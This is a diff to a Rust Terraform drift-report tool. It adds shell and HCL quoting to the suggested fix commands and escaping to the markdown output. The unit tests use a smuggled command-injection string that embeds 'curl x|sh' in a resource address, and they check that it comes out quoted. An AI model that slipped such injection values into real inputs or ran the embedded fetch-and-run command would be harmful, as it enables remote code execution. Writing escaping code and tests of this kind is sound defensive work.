@@ -19,23 +19,35 @@ pub struct Deeds<'a> {
     pub report: &'a Report,
 }
 
-/// The way back, and the way into the code.
+/// The way back, and the way into the code: made to be copied, so names are quoted for the shell and for HCL.
 fn ways_out(finding: &Finding) -> (String, String) {
     let address = finding.address.as_deref().map(clean).unwrap_or_default();
-    let id = clean(&finding.id);
+    let quoted = for_shell(&address);
     match finding.drift {
         DriftKind::Changed => {
-            (format!("terraform apply -target='{address}'"), format!("write what is live into the code of {address}"))
+            (format!("terraform apply -target={quoted}"), format!("write what is live into the code of {address}"))
         }
         DriftKind::Missing => (
-            format!("terraform apply -target='{address}' makes it anew"),
-            format!("take {address} out of the code and `terraform state rm '{address}'`"),
+            format!("terraform apply -target={quoted} makes it anew"),
+            format!("take {address} out of the code, then terraform state rm {quoted}"),
         ),
         DriftKind::Unmanaged | DriftKind::Unknown => (
-            format!("delete {} {id}, if nothing needs it", clean(&finding.kind)),
-            format!("import {{ to = {}.NAME  id = \"{id}\" }}", clean(&finding.kind)),
+            format!("delete {} {}, if nothing needs it", clean(&finding.kind), for_shell(&clean(&finding.id))),
+            format!("import {{ to = {}.NAME  id = {} }}", clean(&finding.kind), for_hcl(&clean(&finding.id))),
         ),
     }
+}
+
+/// One word of a POSIX shell, whatever is in it.
+fn for_shell(text: &str) -> String {
+    format!("'{}'", text.replace('\'', r"'\''"))
+}
+
+/// A string of HCL that is its text and no template.
+/// <https://developer.hashicorp.com/terraform/language/expressions/strings#escape-sequences>
+fn for_hcl(text: &str) -> String {
+    let escaped = text.replace('\\', r"\\").replace('"', "\\\"").replace("${", "$${").replace("%{", "%%{");
+    format!("\"{escaped}\"")
 }
 
 impl Deeds<'_> {
@@ -108,7 +120,8 @@ impl Deeds<'_> {
     /// For an incident's page.
     pub fn markdown(&self) -> String {
         let findings = self.findings();
-        let code = |text: &str| format!("`{}`", clean(text).replace('`', "'").replace('|', "¦"));
+        // As character references: what is copied is the text itself, backticks and all.
+        let code = |text: &str| super::markdown::code(&clean(text));
         let mut out = format!(
             "## {}\n\n| time | call | what | from | drift | revert | adopt |\n|---|---|---|---|---|---|---|\n",
             code(&self.headline())
@@ -166,5 +179,34 @@ impl Deeds<'_> {
             "changes": self.deeds.iter().map(deed).collect::<Vec<_>>(),
         });
         super::json::escaped(&format!("{told:#}"))
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::model::report::Severity;
+    use crate::report::sample;
+
+    #[test]
+    fn what_is_copied_is_quoted() {
+        assert_eq!(for_shell("a"), "'a'");
+        assert_eq!(for_shell("x[\"a'; curl x|sh;'\"]"), r#"'x["a'\''; curl x|sh;'\''"]'"#);
+        assert_eq!(for_hcl(r#"a"b\c${d}%{e}"#), r#""a\"b\\c$${d}%%{e}""#);
+        let evil = "x[\"a'; curl x|sh;'\"]";
+        let ways = |drift| {
+            let address = if drift == DriftKind::Unmanaged { "" } else { evil };
+            ways_out(&sample::finding(drift, Severity::Low, "aws_vpc", evil, address))
+        };
+        let quoted = for_shell(evil);
+        assert_eq!(ways(DriftKind::Changed).0, format!("terraform apply -target={quoted}"));
+        let (revert, adopt) = ways(DriftKind::Missing);
+        assert_eq!(revert, format!("terraform apply -target={quoted} makes it anew"));
+        assert!(adopt.ends_with(&format!("then terraform state rm {quoted}")), "{adopt}");
+        let (revert, adopt) = ways(DriftKind::Unmanaged);
+        assert_eq!(revert, format!("delete aws_vpc {quoted}, if nothing needs it"));
+        assert_eq!(adopt, r#"import { to = aws_vpc.NAME  id = "x[\"a'; curl x|sh;'\"]" }"#);
+        // Nothing is replaced by what ends a quotation.
+        assert_eq!(super::super::markdown::code("'`|'"), "<code>'&#96;&#124;'</code>");
     }
 }
